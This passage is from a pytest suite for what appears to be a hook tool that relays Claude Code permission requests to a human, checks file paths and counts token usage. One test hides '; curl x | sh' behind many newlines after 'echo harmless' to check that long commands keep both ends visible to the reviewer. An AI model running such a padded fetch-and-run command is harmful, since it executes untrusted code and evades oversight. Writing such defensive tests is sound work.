    append(turn.log.path, {"hook": {"hook_event_name": "Stop"}})  # of a Stop hook that makes it go on
    waiting = wait(room, turn)
    assert own_turns(room) == []
    waiting.file.write_text(json.dumps(ALLOW))
    waiting.output()
    assert waiting.resolved() == [("page", "allow")]


def test_of_a_command_too_long_to_be_carried_both_ends_are(room: Room) -> None:
    waiting = wait(room, tool_name="Bash", tool_input={"command": "echo harmless" + "\n" * BIG + "; curl x | sh"})
    line = lines(waiting.turn.log.path)[-1]
    command = line["hook"]["tool_input"]["command"]
    assert line["cut"] is True
    assert command.startswith("echo harmless\n")
    assert command.endswith("\n; curl x | sh")
    assert f"[cut by Paliadin: {BIG + 26 - 16 * 1024} more characters]" in command
    waiting.file.write_text(json.dumps(ALLOW))
    waiting.output()


FILES = [
    ("new.md", {"exists": False}),
    ("old.md", {"exists": True}),
    ("deep/../old.md", {"exists": True}),
    ("nowhere/new.md", {"exists": False}),
    ("old.md/new.md", {"exists": False}),
    ("{outside}/own.md", {"exists": True}),
    ("link.md", {"exists": True, "leads_to": "{outside}/own.md"}),
    ("dangling.md", {"exists": False, "leads_to": "{outside}/none.md"}),
    ("linked/own.md", {"exists": True, "leads_to": "{outside}/own.md"}),
    ("loop.md", None),
    ("a\0b", None),
    ("~/none.md", {"exists": False}),
    ("~other/none.md", {"exists": False}),
    (" {outside}/own.md ", {"exists": True}),
    (" ", None),
    (7, None),
]


@pytest.mark.parametrize(("path", "file"), FILES)
def test_a_permission_for_a_file_says_if_it_is_there_and_where_a_link_leads(
    room: Room, tmp_path: Path, path: object, file: dict[str, Any] | None
) -> None:
    folder, outside = tmp_path / "office", tmp_path / "outside"
    (folder / "deep").mkdir(parents=True)
    outside.mkdir()
    (folder / "old.md").touch()
    (outside / "own.md").touch()
    (folder / "link.md").symlink_to(outside / "own.md")
    (folder / "dangling.md").symlink_to(outside / "none.md")
    (folder / "linked").symlink_to(outside)
    (folder / "loop.md").symlink_to(folder / "loop.md")
    named = path.format(outside=outside) if isinstance(path, str) else path
    if isinstance(named, str) and named.strip() and not named.strip().startswith(("/", "~")):
        named = f"{folder}/{named}"
    waiting = wait(room, cwd=str(folder), tool_input={"file_path": named})
    expected = file and {
        name: value.format(outside=outside) if isinstance(value, str) else value for name, value in file.items()
    }
    assert lines(waiting.turn.log.path)[-1].get("file") == expected
    waiting.file.write_text(json.dumps(ALLOW))
    waiting.output()


@pytest.mark.parametrize(
    ("tool", "field"), [("Edit", "file_path"), ("NotebookEdit", "notebook_path"), ("Grep", "path"), ("Glob", "path")]
)
def test_the_file_is_the_one_in_the_field_that_the_tool_reads(
    room: Room, tmp_path: Path, tool: str, field: str
) -> None:
    others = dict.fromkeys(("file_path", "notebook_path", "path"), str(tmp_path / "none.md"))
    waiting = wait(room, tool_name=tool, cwd=str(tmp_path), tool_input={**others, field: str(tmp_path)})
    assert lines(waiting.turn.log.path)[-1]["file"] == {"exists": True}
    waiting.file.write_text(json.dumps(ALLOW))
    waiting.output()


def test_nothing_is_said_of_a_file_where_no_folder_or_no_input_is_known(room: Room) -> None:
    turn = room.bound()
    for payload in ({"cwd": None}, {"tool_input": "text"}, {"tool_input": {"command": "ls"}, "cwd": "/"}):
        waiting = wait(room, turn, **payload)  # type: ignore[arg-type]  # any payload
        assert "file" not in lines(waiting.turn.log.path)[-1]
        waiting.file.write_text(json.dumps(ALLOW))
        waiting.output()


def test_several_wait_at_once_and_each_gets_its_own_answer(room: Room) -> None:
    first = wait(room)
    second = wait(room, first.turn, tool_input={"file_path": "/b"})
    second.file.write_text(json.dumps({**ALLOW, "decision": {"behavior": "deny", "message": "No."}}))
    assert json.loads(second.output())["hookSpecificOutput"]["decision"] == {"behavior": "deny", "message": "No."}
    assert first.process.poll() is None
    first.file.write_text(json.dumps(ALLOW))
    assert b"allow" in first.output()


@pytest.mark.parametrize("written", ["", "{", "[]", "null", '"allow"', b"\xff\xfe"])
def test_an_answer_that_is_not_whole_is_waited_out(room: Room, written: str | bytes) -> None:
    waiting = wait(room)
    waiting.file.write_bytes(written.encode() if isinstance(written, str) else written)
    other = wait(room, waiting.turn, tool_input={})
    other.file.write_text(json.dumps(ALLOW))
    other.output()  # meanwhile the first has looked several times
    assert waiting.process.poll() is None
    waiting.file.write_text(json.dumps(ALLOW))
    assert b"allow" in waiting.output()


@pytest.mark.parametrize("decision", [None, "allow", {}, {"behavior": "bypass"}, {"behavior": ["allow"]}])
def test_an_answer_without_a_decision_leaves_the_dialog_to_the_terminal(room: Room, decision: object) -> None:
    waiting = wait(room)
    waiting.file.write_text(json.dumps({"by": "terminal", "decision": decision}))
    assert waiting.output() == b""
    assert waiting.resolved() == [("terminal", None)]


def test_sigterm_says_that_the_terminal_answered(room: Room) -> None:
    waiting = wait(room)
    waiting.process.send_signal(signal.SIGTERM)
    assert waiting.output() == b""
    assert waiting.resolved() == [("terminal", None)]


def test_the_result_of_the_same_call_says_that_the_terminal_answered(room: Room) -> None:
    waiting = wait(room)
    calls: list[tuple[str, dict[str, Any]]] = [
        ("PostToolUse", {**CALL, "tool_name": "Read"}),
        ("PostToolUse", {**CALL, "tool_input": {"file_path": "/other"}}),
        ("PreToolUse", CALL),
    ]
    for event, payload in calls:
        room.run(event, tool_use_id="t1", **payload)
    other = wait(room, waiting.turn, tool_input={})
    other.file.write_text(json.dumps(ALLOW))
    other.output()
    assert waiting.process.poll() is None
    room.run("PostToolUse", tool_use_id="t1", tool_response="y" * BIG, **CALL)
    assert waiting.output() == b""
    assert waiting.resolved() == [("terminal", None)]


def test_a_failed_call_was_allowed_as_well(room: Room) -> None:
    waiting = wait(room)
    room.run("PostToolUseFailure", tool_use_id="t1", error="no such folder", **CALL)
    assert waiting.output() == b""
    assert waiting.resolved() == [("terminal", None)]


def test_nobody_answers_and_claude_is_told_no(room: Room) -> None:
    room.environment["PALIADIN_HOOK_WAIT"] = "0.3"
    waiting = wait(room)
    decision = json.loads(waiting.output())["hookSpecificOutput"]["decision"]
    assert decision == {"behavior": "deny", "message": "Nobody answered in time."}
    assert waiting.resolved() == [("timeout", None)]


def test_a_turn_whose_folder_is_removed_is_not_waited_for(room: Room) -> None:
    waiting = wait(room)
    shutil.rmtree(waiting.turn.path)
    assert waiting.output() == b""


ORPHANING = """
import os, subprocess, sys
hook = subprocess.Popen(["sh", "-c", sys.argv[1]], stdin=open(sys.argv[2]))
print(flush=True)
hook.wait()
"""


def test_a_hook_does_not_outlive_its_claude(room: Room) -> None:
    turn = room.bound()
    payload = room.root / "payload.json"
    payload.write_bytes(encode("PermissionRequest", CALL))
    claude = subprocess.Popen(
        [sys.executable, "-c", ORPHANING, command("PermissionRequest"), str(payload)],
        stdout=subprocess.PIPE,
        env=room.environment,
    )
    room.running.append(claude)
    eventually(lambda: [line for line in lines(turn.log.path) if "interrupt" in line], what="the hook waits")
    claude.kill()
    assert claude.stdout
    claude.stdout.read()  # ends when the hook has ended: it holds the other end too
    assert [line["by"] for line in lines(turn.log.path) if "answer" in line] == ["cancel"]


# Tokens.


def entry(kind: str, **fields: object) -> dict[str, Any]:
    return {"type": kind, **fields}


def asked(prompt: str = PROMPT) -> dict[str, Any]:
    return entry("user", promptId=prompt, message={"role": "user", "content": "x"})


def answered(ident: str, output: int, model: str = "m-1") -> dict[str, Any]:
    used = {
        "input_tokens": 100,
        "output_tokens": output,
        "cache_read_input_tokens": 10,
        "cache_creation_input_tokens": 1,
        "service_tier": "standard",
    }
    return entry("assistant", message={"id": ident, "model": model, "usage": used})


INTERRUPTION = entry("user", promptId=PROMPT, message={"content": [{"text": "[Request interrupted by user]"}]})
TOOL_RESULT = entry("user", promptId=PROMPT, message={"role": "user", "content": [{"type": "tool_result"}]})
DURATION = entry("system", subtype="turn_duration", durationMs=5)


@dataclass
class Transcript:
    path: Path
    entries: int = 0

    def write(self, *entries: dict[str, Any] | bytes, path: Path | None = None) -> None:
        """Write entries, each of which follows the one before."""
        self.put([each if isinstance(each, bytes) else self.chained(each) for each in entries], path or self.path)

    def chained(self, entry: dict[str, Any]) -> dict[str, Any]:
        """The entry as one that follows the one before."""
        self.entries += 1
        parent = f"u{self.entries - 1}" if self.entries > 1 else None
        return {"uuid": f"u{self.entries}", "parentUuid": parent, **entry}

    def put(self, entries: Iterable[dict[str, Any] | bytes], path: Path | None = None) -> None:
        """Write entries as they are."""
        path = path or self.path
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("ab") as file:
            for item in entries:
                file.write(item if isinstance(item, bytes) else json.dumps(item).encode() + b"\n")

    def subagent(self, name: str, *entries: dict[str, Any]) -> None:
        self.write(*entries, path=self.path.with_suffix("") / "subagents" / f"agent-{name}.jsonl")


@pytest.fixture
def transcript(tmp_path: Path) -> Transcript:
    return Transcript(tmp_path / "projects" / "s1.jsonl")


def counted(room: Room, transcript: Transcript, turn: TurnFolder) -> dict[str, Any]:
    """What usage.py appends, without waiting."""
    script = [room.environment["PALIADIN_HOOK_PYTHON"], "-I", "-S", str(SKILL / "hooks" / "usage.py")]
    ended = subprocess.run(
        [*script, str(transcript.path), PROMPT, str(turn.log.path)],
        env=room.environment,
        capture_output=True,
        check=False,
    )
    assert (ended.returncode, ended.stdout, ended.stderr) == (0, b"", b"")
    return dict(lines(turn.log.path)[-1])


def tokens(line: dict[str, Any]) -> tuple[int, ...]:
    return tuple(line["usage"].values())


def test_each_message_of_the_prompt_counts_once(room: Room, transcript: Transcript) -> None:
    transcript.write(
        asked("0f"),
        answered("other", 1000),
        DURATION,
        asked(),
        answered("m1", 5),
        answered("m1", 5),  # one entry per content block
        TOOL_RESULT,
        answered("m2", 7, "m-2"),
        answered("made-up", 999, "<synthetic>"),
        DURATION,
        asked("0e"),
        answered("later", 1000),
    )
    line = counted(room, transcript, room.bound())
    assert tokens(line) == (200, 12, 20, 2)
    assert list(line["usage"]) == ["input_tokens", "output_tokens", "cache_read_tokens", "cache_write_tokens"]
    assert (line["model"], line["complete"]) == ("m-2", True)


def attached(path: object) -> dict[str, Any]:
    return entry("attachment", attachment={"type": "file", "filename": path, "content": {"type": "text"}})


def test_the_files_that_were_in_the_request_are_named_once_the_turns_end_is_known(
    room: Room, transcript: Transcript
) -> None:
    transcript.write(asked("0f"), attached("/other"), DURATION, asked())
    transcript.write(*map(attached, ("/a/note.txt", None, "/" + "x" * 1000 + ".txt")), answered("m1", 5))
    turn = room.bound()
    assert "files" not in counted(room, transcript, turn)
    transcript.write(DURATION)
    assert counted(room, transcript, turn)["files"] == ["/a/note.txt", "x" * 496 + ".txt"]
    transcript.write(asked("0e"), *(attached(f"/{number}") for number in range(99)))
    assert len(counted(room, transcript, turn)["files"]) == 2


def test_subagents_count_for_the_prompt_that_they_worked_for(room: Room, transcript: Transcript) -> None:
    transcript.write(asked(), answered("m1", 5), DURATION)
    transcript.subagent("1", asked(), answered("s1", 20, "m-small"), answered("s1", 20), answered("s2", 30))
    transcript.subagent("2", asked("0f"), answered("s3", 500))
    line = counted(room, transcript, room.bound())
    assert tokens(line)[1] == 55
    assert line["model"] == "m-1"


def test_lines_of_a_transcript_that_cannot_be_read_do_not_count(room: Room, transcript: Transcript) -> None:
    odd = [
        b'{"usage"\n',
        b'[{"usage": 1}]\n',
        b'"usage"\n',
        b"\xff usage\n",
        b'{"type":"assistant","message":"usage"}\n',
    ]
    transcript.write(asked(), *odd, answered("m1", 5), {"type": "assistant", "message": {"usage": {}}}, DURATION)
    assert tokens(counted(room, transcript, room.bound()))[1] == 5


@pytest.mark.parametrize(
    ("entries", "complete"),
    [
        ([], False),
        ([asked("0f"), answered("m1", 5), DURATION], False),
        ([asked()], False),
        ([asked(), answered("made-up", 0, "<synthetic>"), DURATION], True),
    ],
    ids=["an empty transcript", "another prompt", "stopped before the first token", "no API message"],
)
def test_what_a_prompt_without_messages_used_is_unknown_not_0(
    room: Room, transcript: Transcript, entries: list[dict[str, Any]], complete: bool
) -> None:
    transcript.write(*entries)
    line = counted(room, transcript, room.bound())
    assert (line["usage"], line["model"], line["complete"]) == ({}, None, complete)


@pytest.mark.parametrize("odd", [True, "7", -1, 7.5, [7], {"a": 7}])
def test_a_kind_of_tokens_is_unknown_where_one_message_has_something_else(
    room: Room, transcript: Transcript, odd: object
) -> None:
    used = {"input_tokens": odd, "output_tokens": 3, "cache_read_input_tokens": 0, "cache_creation_input_tokens": 0}
    strange = entry("assistant", message={"id": "m2", "model": "m-1", "usage": used})
    transcript.write(asked(), answered("m1", 5), strange, entry("assistant", message={"usage": "7"}), DURATION)
    assert tokens(counted(room, transcript, room.bound())) == (None, 8, 10, 1)


def test_a_message_that_used_0_tokens_counts_as_0(room: Room, transcript: Transcript) -> None:
    nothing = {"input_tokens": 0, "output_tokens": 0, "cache_read_input_tokens": 0, "cache_creation_input_tokens": 0}
    transcript.write(asked(), entry("assistant", message={"id": "m1", "model": "m-1", "usage": nothing}), DURATION)
    assert tokens(counted(room, transcript, room.bound())) == (0, 0, 0, 0)


@pytest.mark.parametrize("event", ["Stop", "StopFailure"])
def test_stop_does_not_wait_but_the_count_does_for_the_end_of_the_turn(
    room: Room, transcript: Transcript, event: str
) -> None:
    turn = room.bound()
    transcript.write(asked(), answered("m1", 5))
    room.run(event, transcript_path=str(transcript.path))  # its output is closed: nobody waits for the count
    assert not [line for line in lines(turn.log.path) if "usage" in line]
    transcript.write(answered("m2", 7), DURATION)
    [line] = eventually(lambda: [line for line in lines(turn.log.path) if "usage" in line], what="the count")
    assert (tokens(line)[1], line["complete"], line.get("interrupted")) == (12, True, None)


def test_an_escape_while_stops_hook_runs_ends_the_turn_as_well(room: Room, transcript: Transcript) -> None:
    turn = room.bound()
    transcript.write(asked(), TOOL_RESULT, answered("m1", 5))
    room.run("Stop", transcript_path=str(transcript.path))
    assert not [line for line in lines(turn.log.path) if "usage" in line]
    transcript.write(answered("m2", 7), INTERRUPTION)
    [line] = eventually(lambda: [line for line in lines(turn.log.path) if "usage" in line], what="the count")
    assert (tokens(line)[1], line["complete"], line["interrupted"]) == (12, True, True)


# Ten seconds, and two.
EXPECTED_LATE = [pytest.param("Stop", (), marks=pytest.mark.matrix), ("StopFailure", (100, 5, 10, 1))]


@pytest.mark.parametrize(("event", "expected"), EXPECTED_LATE)
def test_an_end_of_the_turn_that_never_comes_is_not_waited_for_for_ever(
    room: Room, transcript: Transcript, event: str, expected: tuple[int, ...]
) -> None:
    """After Stop messages may be missing, so what they used is unknown; a failed turn has no such end.

    The question's own text, whatever it is, is no end.
    """
    turn = room.bound()
    transcript.write(INTERRUPTION, answered("m1", 5))
    room.run(event, transcript_path=str(transcript.path))
    [line] = eventually(lambda: [line for line in lines(turn.log.path) if "usage" in line], 30, "the count")
    assert (tokens(line), line["complete"]) == (expected, False)


SUMMARY = entry("system", subtype="stop_hook_summary", hookCount=1)
TURN = (asked(), answered("m1", 5), TOOL_RESULT, answered("m2", 7), SUMMARY, DURATION)


@pytest.mark.parametrize(
    "order",
    [(4, 5, 0, 1, 2, 3), (0, 1, 4, 5, 2, 3), (5, 4, 3, 2, 1, 0), (0, 4, 5, 3, 1, 2), (1, 5, 3, 4, 2, 0)],
    ids=["end first", "end in the middle", "from its end", "first message late", "prompt last"],
)
def test_a_first_turn_that_is_written_after_stop_and_in_any_order_is_counted_whole(
    room: Room, transcript: Transcript, order: tuple[int, ...]
) -> None:
    turn = room.bound()
    room.run("Stop", transcript_path=str(transcript.path))
    entries = [transcript.chained(each) for each in TURN]
    transcript.put(entries[number] for number in order[:-1])
    time.sleep(0.2)  # in which it would be counted
    assert not [line for line in lines(turn.log.path) if "usage" in line]
    transcript.put([entries[order[-1]]])
    [line] = eventually(lambda: [line for line in lines(turn.log.path) if "usage" in line], what="the count")
    assert (tokens(line)[1], line["complete"], line["stop_hooks"]) == (12, True, 1)
    assert noted(room) == []


def at(number: int, follows: int | None, entry: dict[str, Any]) -> dict[str, Any]:
    return {"uuid": f"u{number}", "parentUuid": follows and f"u{follows}", **entry}


# 2.1.330 writes what was typed while a turn was stopped before or behind that turn's interruption.
TYPED_FIRST = [at(3, 2, asked()), at(4, 2, TOOL_RESULT), at(5, 4, INTERRUPTION), at(6, 5, answered("m1", 5))]
TYPED_LAST = [at(3, 2, TOOL_RESULT), at(4, 3, INTERRUPTION), at(5, 4, asked()), at(6, 5, answered("m1", 5))]


@pytest.mark.parametrize("order", [TYPED_FIRST, TYPED_LAST], ids=["first", "last"])
def test_what_was_typed_while_another_turn_was_stopped_is_counted_alone_and_was_not_interrupted(
    room: Room, transcript: Transcript, order: list[dict[str, Any]]
) -> None:
    turn = room.bound()
    transcript.put([at(1, None, asked("0f")), at(2, 1, answered("other", 1000)), *order[:3]])
    room.run("Stop", transcript_path=str(transcript.path))
    time.sleep(0.2)  # in which the interruption would be taken for this turn's end
    assert not [line for line in lines(turn.log.path) if "usage" in line]
    transcript.put([order[3], at(7, 6, SUMMARY), at(8, 7, DURATION)])
    [line] = eventually(lambda: [line for line in lines(turn.log.path) if "usage" in line], 5, "the count")
    assert (tokens(line)[1], line["complete"], line.get("interrupted")) == (5, True, None)


def test_a_turn_that_was_compacted_in_its_middle_is_counted_whole(room: Room, transcript: Transcript) -> None:
    """The chain begins anew there; 2.1.330 names an entry that it has not written."""
    transcript.write(asked(), answered("m1", 5))
    boundary = {"parentUuid": None, "logicalParentUuid": "not written"}
    transcript.write(entry("system", subtype="compact_boundary", **boundary), answered("m2", 7), SUMMARY, DURATION)
    turn = room.bound()
    room.run("Stop", transcript_path=str(transcript.path))
    [line] = eventually(lambda: [line for line in lines(turn.log.path) if "usage" in line], 5, "the count")
    assert (tokens(line)[1], line["complete"]) == (12, True)


def test_a_missing_transcript_is_borne_in_silence_and_noted(room: Room) -> None:
    turn = room.bound()
    room.run("StopFailure", transcript_path="/nowhere/t.jsonl")
    room.run("Stop", transcript_path=None)
    assert events(turn.log.path) == ["UserPromptSubmit", "StopFailure", "Stop"]
    notes = eventually(lambda: len(noted(room)) == 2 and sorted(noted(room)), what="both are noted")
    assert [(event, re.sub(r"\d+", "N", what)) for event, what in notes] == [
        ("Stop", "TypeError at log_event.py:N"),
        ("usage", "FileNotFoundError at usage.py:N: No such file or directory"),
    ]
